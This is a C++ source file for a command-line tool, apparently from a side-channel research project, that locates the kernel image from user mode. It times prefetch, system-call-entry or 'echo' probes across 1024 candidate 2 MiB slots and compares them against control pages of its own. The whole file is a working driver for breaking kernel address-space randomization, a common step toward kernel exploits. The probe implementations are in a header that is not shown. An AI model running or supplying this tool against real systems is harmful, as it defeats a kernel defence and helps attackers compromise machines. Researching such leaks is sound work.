// SPDX-License-Identifier: MIT
// Finds out from user mode where in the last 2 GiB of the address space something of the kernel is:
//     locate_kernel prefetch|entry|echo OFFSET...
// An OFFSET, in hexadecimal, is the place within a 2 MiB step of a page that the kernel is known to
// have: anyone who has the image knows it, and only the step remains to be found.
// Standard output, a line each:
//     control MAPPED UNMAPPED   what the probe measured on pages of its own
//     found ADDRESS MEASURE     each page that looks like the mapped one, in hexadecimal
// Without `found` lines nothing was seen; with equal numbers in `control` nothing could be.
#include <sys/mman.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>

#include "guest/probes/kernel_probe.h"

namespace {

using namespace probes;

constexpr std::uintptr_t first_candidate = 0xffffffff80000000;
constexpr std::uintptr_t step = 2UL << 20U;
constexpr std::uintptr_t candidates = 1024;

std::unique_ptr<KernelProbe> make_probe(const char* name) {
    if (std::strcmp(name, "prefetch") == 0) {
        return make_prefetch_probe();
    }
    if (std::strcmp(name, "entry") == 0) {
        return make_entry_probe();
    }
    return std::strcmp(name, "echo") == 0 ? make_echo_probe() : nullptr;
}

/// A page of the program's own that is there, or that only its address is.
std::uintptr_t own_page(bool present) {
    constexpr std::size_t page = 4096;
    void* mapped = mmap(nullptr, page, present ? PROT_READ | PROT_WRITE : PROT_NONE,
                        MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (present && mapped != MAP_FAILED) {
        std::memset(mapped, 1, page);
    }
    return reinterpret_cast<std::uintptr_t>(mapped);
}

}  // namespace

int main(int count, char** arguments) {
    constexpr int first_offset = 2;
    const std::unique_ptr<KernelProbe> probe =
        count > first_offset ? make_probe(arguments[1]) : nullptr;
    if (probe == nullptr) {
        std::fputs("usage: locate_kernel prefetch|entry|echo OFFSET...\n", stderr);
        return 2;
    }
    const std::uintptr_t present = own_page(true);
    const std::uintptr_t absent = own_page(false);
    // Its own pages do not outlive a system call in the TLB where that flushes, as the kernel's
    // entry code does: what the clock can see is measured without one.
    const std::unique_ptr<KernelProbe> reference =
        make_probe(std::strcmp(arguments[1], "entry") == 0 ? "prefetch" : arguments[1]);
    static_cast<void>(reference->measure(present));  // the first is disturbed by its own misses
    const std::uint64_t mapped = reference->measure(present);
    const std::uint64_t unmapped = reference->measure(absent);
    std::printf("control %lu %lu\n", mapped, unmapped);
    if (mapped >= unmapped) {
        return 0;  // the probe cannot tell them apart
    }
    for (std::uintptr_t i = 0; i < candidates; ++i) {
        for (int offset = first_offset; offset < count; ++offset) {
            const std::uintptr_t address =
                first_candidate + i * step + std::strtoul(arguments[offset], nullptr, 16);
            const std::uint64_t measured = probe->measure(address);
            if (2 * measured <= mapped + unmapped) {
                std::printf("found %lx %lu\n", address, measured);
            }
        }
    }
    return 0;
}
